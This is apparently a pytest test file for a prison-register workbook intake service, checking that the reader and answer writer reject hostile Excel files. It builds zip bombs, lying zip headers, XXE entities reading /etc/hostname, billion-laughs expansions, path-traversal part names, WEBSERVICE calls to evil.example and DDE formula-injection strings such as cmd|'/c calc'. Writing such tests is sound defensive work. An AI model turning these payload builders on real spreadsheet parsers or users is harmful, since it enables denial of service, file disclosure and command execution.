"""Workbooks made to harm: whoever reads them, and whoever opens the answer."""

import io
import struct
import tracemalloc
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from inzira_intake.register import workbook
from inzira_intake.register.answer import Verdict, write_answer
from inzira_intake.register.domain import Outcome
from inzira_intake.register.reading import inspect_register, read_register
from inzira_intake.register.rows import Rules
from inzira_platform.errors import DomainError
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

HEADINGS = (
    "RCS No", "Names", "Sex", "Date of birth", "Facility", "Date of admission", "Commitment order", "Authority",
    "Sentence", "Start of sentence",
)  # fmt: skip
ROW: tuple[Any, ...] = (
    "HUY-1", "UWASE Agnès", "F", "01/02/1980", "Huye", "3/4/2010", "ORD/1", "TGI Huye", "15 years", "3/4/2010",
)  # fmt: skip
LOCAL_FILE = "file:///etc/hostname"
MEGABYTE = 1 << 20


def plain() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(list(HEADINGS))
    book.active.append(list(ROW))
    return saved(book)


def saved(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def parts_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return out.getvalue()


def with_parts(**changes: bytes) -> bytes:
    return packed({**parts_of(plain()), **changes})


def lying(content: bytes, name: str, claimed: int) -> bytes:
    """The package, whose directory claims another unpacked size for one part."""
    raw = bytearray(content)
    at = raw.find(b"PK\x01\x02")
    while raw[at : at + 4] == b"PK\x01\x02":
        lengths = struct.unpack_from("<HHH", raw, at + 28)
        if raw[at + 46 : at + 46 + lengths[0]].decode() == name:
            struct.pack_into("<I", raw, at + 24, claimed)
        at += 46 + sum(lengths)
    return bytes(raw)


SHEET = "xl/worksheets/sheet1.xml"


def swollen_sheet() -> bytes:
    """A sheet of 200 MB of spaces that takes 200 kB."""
    sheet = parts_of(plain())[SHEET]
    return packed({**parts_of(plain()), SHEET: sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * 200 * MEGABYTE)})


def many_parts() -> bytes:
    return packed({**parts_of(plain()), **{f"xl/media/{at}.bin": b"" for at in range(workbook.MAX_PARTS + 1)}})


def nested(depth: int = 40) -> bytes:
    """A workbook in a workbook in a workbook."""
    inner = plain()
    for _ in range(depth):
        inner = with_parts(**{"xl/embeddings/inner.xlsx": inner})
    return inner


def entity(declaration: str, encoding: str = "utf-8", before: str = "") -> bytes:
    text = f'<?xml version="1.0" encoding="{encoding}"?>{before}<!DOCTYPE sst [{declaration}]>'
    text += '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"><si><t>&e;</t></si></sst>'
    parts = parts_of(plain())
    parts["xl/sharedStrings.xml"] = text.encode(encoding)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.sharedStrings+xml"/></Types>',
    )
    sheet = parts[SHEET].replace(b't="inlineStr"><is><t>HUY-1</t></is>', b't="s"><v>0</v>')
    assert sheet != parts[SHEET]
    return packed({**parts, SHEET: sheet})


LAUGHS = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10 if at else "ha" * 10}">' for at in range(12)) + (
    '<!ENTITY e "&e11;">'
)
EXTERNAL = f'<!ENTITY e SYSTEM "{LOCAL_FILE}">'
FAR = "<!--" + "x" * (2 * MEGABYTE) + "-->"


@pytest.mark.parametrize(
    ("make", "problem"),
    [
        (swollen_sheet, workbook.WorkbookTooLargeError),
        (lambda: lying(swollen_sheet(), SHEET, 900), workbook.WorkbookDamagedError),
        (lambda: lying(plain(), SHEET, 0xFFFFFFF0), workbook.WorkbookTooLargeError),
        (many_parts, workbook.WorkbookTooLargeError),
        (lambda: entity(EXTERNAL), workbook.WorkbookDamagedError),
        (lambda: entity(LAUGHS), workbook.WorkbookDamagedError),
        (lambda: entity(EXTERNAL, "utf-16"), workbook.WorkbookDamagedError),
        (lambda: entity(LAUGHS, "utf-16"), workbook.WorkbookDamagedError),
        (lambda: entity(EXTERNAL, before=FAR), workbook.WorkbookDamagedError),
        (lambda: entity(LAUGHS, before=FAR), workbook.WorkbookDamagedError),
    ],
    ids=[
        "200 MB of spaces", "a size too small", "a size of 4 GB", "many parts", "external entity", "laughs",
        "external entity in UTF-16", "laughs in UTF-16", "external entity far down", "laughs far down",
    ],
)  # fmt: skip
def test_what_would_use_up_the_reader_is_refused_in_little_memory(
    make: Callable[[], bytes], problem: type[DomainError], rules: Rules
) -> None:
    content = make()
    tracemalloc.start()
    try:
        with pytest.raises(problem):
            inspect_register(content)
        with pytest.raises(problem):
            read_register(content, rules)
        assert tracemalloc.get_traced_memory()[1] < 60 * MEGABYTE
    finally:
        tracemalloc.stop()


def test_workbooks_in_workbooks_are_never_opened(rules: Rules) -> None:
    content = nested()
    tracemalloc.start()
    try:
        assert len(read_register(content, rules).drafts) == 1
        assert tracemalloc.get_traced_memory()[1] < 20 * MEGABYTE
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_other_packings_are_read_alike(method: int, rules: Rules) -> None:
    assert len(read_register(packed(parts_of(plain()), method), rules).drafts) == 1


@pytest.mark.parametrize("name", ["../../../tmp/out.xml", "/etc/out.xml", "xl\\..\\out.xml", "xl/a\x00b.xml"])
def test_a_name_that_leads_elsewhere_leads_nowhere(name: str, rules: Rules) -> None:
    assert len(read_register(with_parts(**{name: b"<x/>"}), rules).drafts) == 1


def lively() -> bytes:
    """A register with everything in it that calls, links or calculates."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(HEADINGS))
    sheet.append(list(ROW))
    sheet["B2"].hyperlink = "https://evil.example/x"
    sheet["H2"].hyperlink = "file://evil.example/share"
    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text='WEBSERVICE("https://evil.example")')
    sheet.defined_names["inner"] = DefinedName("inner", attr_text="cmd|'/c calc'!A1")
    validation = DataValidation(type="custom", formula1='WEBSERVICE("https://evil.example")')
    validation.add("A2:A9")
    sheet.add_data_validation(validation)
    sheet.conditional_formatting.add("A2:A9", FormulaRule(formula=['WEBSERVICE("https://evil.example")']))
    book.create_sheet("Other")["A1"] = '=WEBSERVICE("https://evil.example")'
    parts = parts_of(saved(book))
    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = b'<x Target="https://evil.example/book.xlsx"/>'
    return packed(parts)


VERDICTS = {2: Verdict(Outcome.REJECTED, (), ())}


def test_nothing_in_the_answer_calls_links_or_calculates() -> None:
    parts = parts_of(write_answer(lively(), VERDICTS, "en"))
    whole = b"".join(parts.values())
    assert b"evil.example" not in whole and b"calc" not in whole.replace(b"calcPr", b"").replace(b"calcId", b"")
    assert not any("externalLink" in name or "vba" in name.lower() for name in parts)
    sheets = [part for name, part in parts.items() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in part or b"<f " in part or b"<hyperlink" in part for part in sheets)


BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=")


@pytest.mark.parametrize("beginning", BEGINNINGS)
@pytest.mark.parametrize("kind", ["inlineStr", "formula"])
def test_a_text_that_begins_like_a_formula_stays_text_for_whoever_opens_the_answer(beginning: str, kind: str) -> None:
    text = f"{beginning}cmd|'/c calc'!A0"
    escaped = text.replace("\t", "&#9;").replace("\r", "&#13;").replace("'", "&apos;")
    cell = {
        "inlineStr": f'<c r="B2" t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>',
        "formula": f'<c r="B2" t="str"><f>A1</f><v xml:space="preserve">{escaped}</v></c>',
    }[kind]
    parts = parts_of(plain())
    sheet = parts[SHEET].decode()
    begin = sheet.index('<c r="B2"')
    end = sheet.index("</c>", begin) + 4
    parts[SHEET] = (sheet[:begin] + cell + sheet[end:]).encode()
    answer = write_answer(packed(parts), VERDICTS, "en")
    written = openpyxl.load_workbook(io.BytesIO(answer)).active["B2"]  # formulas as formulas
    assert written.data_type == "s" and written.quotePrefix
    assert written.value.strip() == text.strip()
